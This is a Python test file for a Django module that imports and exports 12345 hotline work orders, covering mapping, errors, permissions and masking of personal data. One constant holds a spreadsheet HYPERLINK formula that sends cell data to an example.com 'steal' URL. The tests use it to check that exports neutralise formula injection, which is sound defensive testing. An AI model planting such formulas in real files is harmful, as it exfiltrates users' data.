"""12345 exchange: importing hotline work orders (.xlsx / .csv, column mapping, idempotent on the hotline's
number, row errors, all-or-nothing) and exporting them in the same shape, masked unless allowed."""

import csv
import io
import logging
from datetime import date, timedelta

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from linli.appeals import hotline
from linli.appeals import hotline_sheet as S
from linli.appeals.choices import AppealType, Channel, EventKind, Status
from linli.appeals.models import Appeal, AppealEvent
from linli.appeals.tests.factories import Cast, category
from linli.core.exceptions import DomainError
from linli.core.roles import Role
from linli.places.choices import PlaceLevel
from linli.places.models import Place
from linli.places.tests.factories import user_with_role

TODAY = timezone.localdate()


@pytest.fixture
def cast(world):
    return Cast(world)


def order(**changes) -> dict:
    """One 12345 work order as the hotline exports it."""
    row = {
        S.NUMBER: "GD20240501000001",
        S.RECEIVED_AT: "2024-05-01 09:30",
        S.REPORTER: "张小明",
        S.PHONE: "13812345678",
        S.TYPE: "投诉",
        S.CATEGORY: "设施维修",
        S.ADDRESS: "东风街道春晖花园1栋1单元",
        S.PLACE_CODE: "",
        S.TEXT: "单元门门禁坏了一周，外人随便进出，请尽快修好",
        S.UNIT: "东风街道办事处",
        S.STATUS: "已派单",
        S.CLOSED_AT: "",
        S.REPLY: "",
        S.SATISFACTION: "",
    }
    row.update(changes)
    return row


def xlsx(rows, headers=S.FIELDS, *, title_row=None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "工单明细"
    if title_row:
        ws.append([title_row])
    ws.append(list(headers))
    for r in rows:
        ws.append([r.get(h, "") for h in headers])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def csv_bytes(rows, headers=S.FIELDS, *, encoding="utf-8") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(headers)
    for r in rows:
        writer.writerow([r.get(h, "") for h in headers])
    return out.getvalue().encode(encoding)


def read_back(data: bytes) -> list[dict]:
    ws = openpyxl.load_workbook(io.BytesIO(data), read_only=True).active
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def run(actor, data, **kwargs):
    return hotline.hotline_import(actor=actor, file=data, **kwargs)


# --- Import ----------------------------------------------------------------------------------------


def test_xlsx_work_orders_become_received_hotline_appeals_with_the_hotline_time_on_their_first_event(cast):
    home = cast.home
    rows = [order(), order(**{S.NUMBER: "GD2", S.PLACE_CODE: home.code, S.ADDRESS: "", S.TYPE: "咨询"})]

    report = run(cast.desk, xlsx(rows))

    assert (report.created, report.unchanged, report.errors) == (2, 0, [])
    by_address = Appeal.objects.get(external_id="GD20240501000001")
    assert by_address.external_source == "12345" and by_address.channel == Channel.HOTLINE
    assert by_address.status == Status.RECEIVED and by_address.on_behalf_by == cast.desk
    assert by_address.place == cast.world.compound_a1  # the 小区 named in the address
    assert by_address.category == category("0102") and by_address.appeal_type == AppealType.COMPLAINT
    assert (by_address.reporter_name, by_address.reporter_phone) == ("张小明", "13812345678")
    first = by_address.events.order_by("pk").first()
    assert first.kind == EventKind.SUBMITTED
    assert first.data["hotline"]["received_at"] == "2024-05-01T09:30:00+08:00"
    assert first.data["hotline"]["unit"] == "东风街道办事处"
    assert "热线受理时间 2024-05-01 09:30" in first.note
    by_code = Appeal.objects.get(external_id="GD2")
    assert by_code.place == home and by_code.appeal_type == AppealType.CONSULT


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig", "utf-16"])
def test_csv_in_gbk_or_utf8_with_or_without_bom_imports(cast, encoding):
    report = run(cast.desk, csv_bytes([order(**{S.ADDRESS: "春晖雅苑5栋"})], encoding=encoding))
    assert report.created == 1, report.errors
    appeal = Appeal.objects.get(external_id="GD20240501000001")
    assert appeal.place == cast.world.compound_a2 and appeal.reporter_name == "张小明"


def test_undecodable_or_binary_file_is_refused_in_chinese_and_nothing_is_written(cast):
    with pytest.raises(DomainError, match="编码"):
        run(cast.desk, b"\x80\x81\xff\xfe\x00garbage" * 10)
    with pytest.raises(DomainError, match="空"):
        run(cast.desk, b"")
    assert not Appeal.objects.exists()


def test_renamed_headers_import_through_a_column_mapping_and_errors_name_the_files_own_header(cast):
    headers = ["热线单号", "来电时间", "来电人", "来电号码", "诉求内容描述", "诉求地址"]
    rows = [
        {
            "热线单号": "BJ001",
            "来电时间": "2024/5/1 9:30",
            "来电人": "李四",
            "诉求内容描述": "楼道灯坏了很久没人修",
        }
        | {"诉求地址": "春晖花园"},
        {
            "热线单号": "BJ002",
            "来电时间": "昨天下午",
            "诉求内容描述": "楼下广场舞太吵了",
            "诉求地址": "春晖花园",
        },
    ]
    data = xlsx(rows, headers, title_row="12345 热线工单明细（导出时间 2024-05-02）")
    mapping = {S.NUMBER: "热线单号", S.RECEIVED_AT: "来电时间", S.REPORTER: "来电人", S.TEXT: "诉求内容描述"}

    with pytest.raises(DomainError, match="工单编号"):
        run(cast.desk, data)  # the standard names are not in the file
    report = run(cast.desk, data, mapping=mapping)

    assert report.created == 1
    assert Appeal.objects.get(external_id="BJ001").reporter_name == "李四"
    [error] = report.errors
    assert (error.row, error.column) == (4, "来电时间") and "不是有效的时间" in error.message


def test_a_mapping_naming_a_header_the_file_lacks_is_refused(cast):
    with pytest.raises(DomainError, match="热线单号"):
        run(cast.desk, xlsx([order()]), mapping={S.NUMBER: "热线单号"})
    with pytest.raises(DomainError, match="未知的字段"):
        run(cast.desk, xlsx([order()]), mapping={"工单号码": S.NUMBER})


def test_importing_the_same_file_again_changes_nothing(cast):
    data = xlsx([order(), order(**{S.NUMBER: "GD2"})])
    assert run(cast.desk, data).created == 2
    events = AppealEvent.objects.count()

    again = run(cast.desk, data)

    assert (again.created, again.unchanged, again.errors) == (0, 2, [])
    assert Appeal.objects.count() == 2 and AppealEvent.objects.count() == events


def test_mixed_file_imports_good_rows_and_reports_each_bad_row_with_row_column_and_reason(cast, world):
    Place.objects.create(code=world.community_a.code + "009", name="春晖雅苑", level=PlaceLevel.COMPOUND,
                         parent=world.community_a)  # fmt: skip
    rows = [
        order(),  # row 2: good
        order(**{S.NUMBER: ""}),  # 3
        order(**{S.NUMBER: "GD3", S.TEXT: ""}),  # 4
        order(**{S.NUMBER: "GD4", S.RECEIVED_AT: "2024-13-45 25:00"}),  # 5
        order(**{S.NUMBER: "GD5", S.TYPE: "催办"}),  # 6
        order(**{S.NUMBER: "GD6", S.CATEGORY: "外星人入侵"}),  # 7
        order(**{S.NUMBER: "GD7", S.PLACE_CODE: "430699001001999"}),  # 8
        order(**{S.NUMBER: "GD8", S.ADDRESS: "人民路100号"}),  # 9
        order(**{S.NUMBER: "GD9", S.ADDRESS: "春晖雅苑3栋"}),  # 10: two 小区 of that name
        order(**{S.NUMBER: "GD20240501000001"}),  # 11: same number as row 2
        order(**{S.NUMBER: "GD12", S.CATEGORY: "物业服务/设施维修", S.TEXT: "太短"}),  # 12
    ]

    report = run(cast.desk, xlsx(rows))

    assert report.created == 1 and report.applied
    got = {(e.row, e.column): e.message for e in report.errors}
    assert "缺少工单编号" in got[(3, S.NUMBER)]
    assert "缺少诉求内容" in got[(4, S.TEXT)]
    assert "不是有效的时间" in got[(5, S.RECEIVED_AT)]
    assert "未知的诉求类型“催办”" in got[(6, S.TYPE)]
    assert "未知的诉求分类“外星人入侵”" in got[(7, S.CATEGORY)]
    assert "不存在或不在您的管辖范围内" in got[(8, S.PLACE_CODE)]
    assert "没有您管辖范围内的小区" in got[(9, S.ADDRESS)]
    assert "多个小区" in got[(10, S.ADDRESS)]
    assert "与第 2 行重复" in got[(11, S.NUMBER)]
    assert "至少 5 个字" in got[(12, S.TEXT)]
    assert report.error_rows == 10
    assert list(Appeal.objects.values_list("external_id", flat=True)) == ["GD20240501000001"]


def test_all_or_nothing_with_one_bad_row_writes_nothing(cast):
    rows = [order(), order(**{S.NUMBER: "GD2"}), order(**{S.NUMBER: "GD3", S.TYPE: "催办"})]

    report = run(cast.desk, xlsx(rows), all_or_nothing=True)

    assert not report.applied and report.created == 2 and report.error_rows == 1
    assert "本次没有导入任何数据" in report.summary()
    assert not Appeal.objects.exists() and not AppealEvent.objects.exists()


def test_places_outside_the_importers_scope_are_refused(cast, world):
    b_home = world.households[world.compound_b1.code][0]
    rows = [
        order(**{S.PLACE_CODE: b_home.code}),
        order(**{S.NUMBER: "GD2", S.ADDRESS: "秋实家园1栋"}),
    ]

    report = run(cast.desk, xlsx(rows))

    assert report.created == 0
    got = {(e.row, e.column): e.message for e in report.errors}
    assert got[(2, S.PLACE_CODE)] == f"地点编码 {b_home.code} 不存在或不在您的管辖范围内"
    assert "没有您管辖范围内的小区" in got[(3, S.ADDRESS)]
    assert not Appeal.objects.exists()
    # The street sees both communities: the same file imports.
    assert run(cast.street, xlsx(rows)).created == 2


def test_only_the_desk_may_import(cast):
    with pytest.raises(PermissionDenied):
        run(cast.grid_worker, xlsx([order()]))
    with pytest.raises(PermissionDenied):
        run(cast.resident, xlsx([order()]))


def test_an_unexpected_failure_writes_nothing(cast, monkeypatch):
    calls = []
    real = hotline.appeal_submit

    def fail_second(**kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real(**kwargs)

    monkeypatch.setattr(hotline, "appeal_submit", fail_second)
    with pytest.raises(DomainError, match="意外错误"):
        run(cast.desk, xlsx([order(), order(**{S.NUMBER: "GD2"})]))
    assert not Appeal.objects.exists()


def test_times_in_the_forms_12345_systems_write_are_read():
    expected = timezone.make_aware(timezone.datetime(2024, 5, 1, 9, 30))
    for text in ["2024-05-01 09:30", "2024/5/1 9:30", "2024年5月1日 09:30", "2024-05-01T09:30:00+08:00"]:
        assert S.cell_time(text) == expected, text
    assert S.cell_time(timezone.datetime(2024, 5, 1, 9, 29, 59, 999_600)) == expected
    assert S.cell_time("") is None


# --- Export ----------------------------------------------------------------------------------------


def test_export_has_the_import_shape_and_reimports_as_unchanged(cast):
    run(cast.desk, xlsx([order()]))
    own = cast.report()  # a resident's own appeal: exported under its Linli number

    data = hotline.hotline_export(user=cast.desk, start=TODAY, end=TODAY)

    rows = read_back(data)
    assert list(rows[0]) == list(S.FIELDS)
    numbers = {r[S.NUMBER] for r in rows}
    assert numbers == {"GD20240501000001", own.number}
    imported = next(r for r in rows if r[S.NUMBER] == "GD20240501000001")
    assert imported[S.RECEIVED_AT] == "2024-05-01 09:30:00"  # the hotline's time, not the import's
    assert imported[S.CATEGORY] == "物业服务/设施维修" and imported[S.STATUS] == "待派单"
    again = run(cast.desk, data)
    assert (again.created, again.unchanged, again.errors) == (0, 2, [])
    csv_again = run(cast.desk, hotline.hotline_export_csv(user=cast.desk, start=TODAY, end=TODAY))
    assert (csv_again.created, csv_again.unchanged) == (0, 2)
    assert Appeal.objects.count() == 2


FORMULA_TEXT = '=HYPERLINK("http://example.com/steal?"&A1,"点击查看")楼道灯坏了'


def test_text_that_looks_like_a_formula_is_exported_as_text_and_reimports_unchanged(cast):
    run(cast.desk, csv_bytes([order(**{S.TEXT: FORMULA_TEXT})]))

    data = hotline.hotline_export(user=cast.desk, start=TODAY, end=TODAY)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    text = ws.cell(row=2, column=header.index(S.TEXT) + 1)
    assert (text.value, text.data_type) == (FORMULA_TEXT, "s")  # text, not a formula Excel would run
    assert run(cast.desk, data).unchanged == 1

    csv_data = hotline.hotline_export_csv(user=cast.desk, start=TODAY, end=TODAY)
    [row] = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8-sig"))))
    assert row[S.TEXT] == "'" + FORMULA_TEXT  # a leading apostrophe: Excel and WPS show it as text
    assert row[S.PHONE] == "138****5678"
    again = run(cast.desk, csv_data)
    assert (again.created, again.unchanged, again.errors) == (0, 1, [])
    assert Appeal.objects.get().text == FORMULA_TEXT


def test_export_masks_names_and_phones_by_default(cast):
    run(cast.desk, xlsx([order(**{S.REPORTER: "欧阳小明"})]))
    for user in (cast.desk, cast.secretary):
        [row] = read_back(hotline.hotline_export(user=user, start=TODAY, end=TODAY))
        assert (row[S.REPORTER], row[S.PHONE]) == ("欧**明", "138****5678")
    assert (S.mask_name("张小明"), S.mask_name("李四"), S.mask_phone("0731-88886666")) == (
        "张*明",
        "李*",
        "073****6666",
    )


def test_full_contact_only_with_the_permission_and_a_reason_and_it_is_logged(cast, caplog):
    run(cast.desk, xlsx([order()]))
    with pytest.raises(PermissionDenied):
        hotline.hotline_export(
            user=cast.desk, start=TODAY, end=TODAY, full_contact=True, reason="报送回访结果"
        )
    with pytest.raises(DomainError, match="理由"):
        hotline.hotline_export(user=cast.secretary, start=TODAY, end=TODAY, full_contact=True)

    with caplog.at_level(logging.INFO, logger="linli.audit"):
        data = hotline.hotline_export(
            user=cast.secretary, start=TODAY, end=TODAY, full_contact=True, reason="报送回访结果"
        )

    [row] = read_back(data)
    assert (row[S.REPORTER], row[S.PHONE]) == ("张小明", "13812345678")
    [record] = [r for r in caplog.records if r.name == "linli.audit"]
    message = record.getMessage()
    assert f"user={cast.secretary.pk}" in message and "count=1" in message and "报送回访结果" in message


def test_export_holds_only_what_the_user_may_see_submitted_in_the_period(cast):
    run(cast.desk, xlsx([order(), order(**{S.NUMBER: "GD2"})]))
    Appeal.objects.filter(external_id="GD2").update(submitted_at=timezone.now() - timedelta(days=40))

    assert len(read_back(hotline.hotline_export(user=cast.desk, start=TODAY, end=TODAY))) == 1
    month = hotline.hotline_export(user=cast.desk, start=TODAY - timedelta(days=60), end=TODAY)
    assert len(read_back(month)) == 2
    assert read_back(hotline.hotline_export(user=cast.outsider, start=date(2020, 1, 1), end=TODAY)) == []
    with pytest.raises(DomainError, match="结束日期"):
        hotline.hotline_export(user=cast.desk, start=TODAY, end=TODAY - timedelta(days=1))


# --- Web -------------------------------------------------------------------------------------------


def _upload(name, data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


def test_upload_map_and_import_through_the_web(client, cast, settings, tmp_path):
    settings.VAR_DIR = tmp_path
    client.force_login(cast.desk)
    assert reverse("appeals:hotline") in client.get(reverse("appeals:list")).content.decode()
    page = client.get(reverse("appeals:hotline"))
    assert page.status_code == 200 and reverse("appeals:hotline_template") in page.content.decode()
    headers = [h if h != S.NUMBER else "热线单号" for h in S.FIELDS]
    rows = [order() | {"热线单号": "GD1"}, order() | {"热线单号": "GD2", S.TYPE: "催办"}]

    mapping_page = client.post(
        reverse("appeals:hotline"), {"file": _upload("工单.xlsx", xlsx(rows, headers))}
    )

    assert mapping_page.status_code == 200
    form = mapping_page.context["form"]
    assert form["map_0"].initial == ""  # 工单编号: not in the file under its standard name
    assert form["map_8"].initial == S.TEXT
    post = {f"map_{i}": form[f"map_{i}"].initial for i in range(len(S.FIELDS))}
    post["token"] = form["token"].initial
    missing = client.post(reverse("appeals:hotline"), post)
    assert missing.status_code == 400 and "请选择文件中哪一列是“工单编号”" in missing.content.decode()

    result = client.post(reverse("appeals:hotline"), post | {"map_0": "热线单号"})

    html = result.content.decode()
    assert result.status_code == 200 and "部分导入" in html
    assert "<td>诉求类型</td><td>未知的诉求类型“催办”" in html
    assert Appeal.objects.filter(external_id="GD1").exists()
    # The mapping is remembered for the next file of the same shape.
    again = client.post(reverse("appeals:hotline"), {"file": _upload("工单.csv", csv_bytes(rows, headers))})
    assert again.context["form"]["map_0"].initial == "热线单号"
    detail = client.get(reverse("appeals:detail", args=[Appeal.objects.get(external_id="GD1").pk]))
    assert "热线受理时间 2024-05-01 09:30" in detail.content.decode()


def test_all_or_nothing_and_garbage_through_the_web(client, cast, settings, tmp_path):
    settings.VAR_DIR = tmp_path
    client.force_login(cast.desk)
    rows = [order(), order(**{S.NUMBER: "GD2", S.TYPE: "催办"})]
    form = client.post(reverse("appeals:hotline"), {"file": _upload("a.xlsx", xlsx(rows))}).context["form"]
    post = {f"map_{i}": form[f"map_{i}"].initial for i in range(len(S.FIELDS))}
    post |= {"token": form["token"].initial, "all_or_nothing": "on"}

    result = client.post(reverse("appeals:hotline"), post)

    assert "没有导入任何工单" in result.content.decode() and not Appeal.objects.exists()
    garbage = client.post(reverse("appeals:hotline"), {"file": _upload("a.xlsx", b"PK\x03\x04 not a zip")})
    assert garbage.status_code == 400 and "损坏" in garbage.content.decode()
    stale = client.post(reverse("appeals:hotline"), post | {"token": "forged"})
    assert stale.status_code == 400 and "重新上传" in stale.content.decode()


def test_template_and_export_download_through_the_web(client, cast):
    run(cast.desk, xlsx([order()]))
    client.force_login(cast.secretary)
    template = client.get(reverse("appeals:hotline_template"))
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(template.streaming_content)), read_only=True)
    assert wb.sheetnames == [S.SHEET, "说明"]
    assert next(wb[S.SHEET].iter_rows(values_only=True)) == S.FIELDS
    period = {"start": TODAY.isoformat(), "end": TODAY.isoformat(), "format": "xlsx"}

    masked = client.post(reverse("appeals:hotline_export"), period)
    full = client.post(
        reverse("appeals:hotline_export"), period | {"full_contact": "on", "reason": "报送回访结果"}
    )
    no_reason = client.post(reverse("appeals:hotline_export"), period | {"full_contact": "on"})
    as_csv = client.post(reverse("appeals:hotline_export"), period | {"format": "csv"})

    assert read_back(b"".join(masked.streaming_content))[0][S.PHONE] == "138****5678"
    assert read_back(b"".join(full.streaming_content))[0][S.PHONE] == "13812345678"
    assert no_reason.status_code == 400 and "理由" in no_reason.content.decode()
    text = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    assert text.startswith(",".join(S.FIELDS)) and "138****5678" in text


def test_those_without_the_desk_permission_get_no_link_and_a_403(client, cast):
    client.force_login(cast.grid_worker)
    assert reverse("appeals:hotline") not in client.get(reverse("appeals:list")).content.decode()
    assert client.get(reverse("appeals:hotline")).status_code == 403
    assert client.get(reverse("appeals:hotline_template")).status_code == 403
    assert client.post(reverse("appeals:hotline_export"), {}).status_code == 403
    # A worker without the personal-data permission has no full-contact option; posting it changes nothing.
    client.force_login(cast.desk)
    assert "导出完整联系方式" not in client.get(reverse("appeals:hotline")).content.decode()


# --- Command line ----------------------------------------------------------------------------------


def test_command_line_import_with_a_mapping_prints_the_report_and_fails_on_errors(cast, tmp_path):
    headers = [h if h != S.NUMBER else "热线单号" for h in S.FIELDS]
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([order() | {"热线单号": "GD1"}], headers, encoding="gbk"))
    out = io.StringIO()

    call_command(
        "hotline", "import", str(good), "--as", cast.desk.phone, "--map", "工单编号=热线单号", stdout=out
    )

    assert "新增 1" in out.getvalue() and Appeal.objects.filter(external_id="GD1").exists()
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(xlsx([order(**{S.TYPE: "催办"})]))
    out = io.StringIO()
    with pytest.raises(CommandError, match="1 行存在错误"):
        call_command("hotline", "import", str(bad), "--as", cast.desk.phone, "--all-or-nothing", stdout=out)
    assert "第 2 行 [诉求类型]：未知的诉求类型" in out.getvalue()
    with pytest.raises(CommandError, match="--as"):
        call_command("hotline", "import", str(good))
    with pytest.raises(CommandError, match="字段=表头"):
        call_command("hotline", "import", str(good), "--as", cast.desk.phone, "--map", "编号")


def test_command_line_export_reimports_unchanged(cast, tmp_path):
    run(cast.desk, xlsx([order()]))
    path = tmp_path / "out.csv"
    day = TODAY.isoformat()
    out = io.StringIO()
    call_command("hotline", "export", "--from", day, "--to", day, str(path), stdout=out)
    assert "已导出 1 件" in out.getvalue()
    assert "138****5678" in path.read_text(encoding="utf-8-sig")

    out = io.StringIO()
    call_command("hotline", "import", str(path), "--as", cast.desk.phone, stdout=out)

    assert "新增 0" in out.getvalue() and "未变 1" in out.getvalue()
    with pytest.raises(CommandError, match="没有权限"):
        call_command(
            "hotline", "export", "--from", day, "--to", day, str(path), "--full-contact", "--reason", "核对"
        )
    secretary_b = user_with_role(Role.COMMUNITY_SECRETARY, place=cast.world.community_b)
    call_command(
        "hotline", "export", "--from", day, "--to", day, str(path), "--as", secretary_b.phone, stdout=out
    )
    assert path.read_text(encoding="utf-8-sig").strip() == ",".join(S.FIELDS)
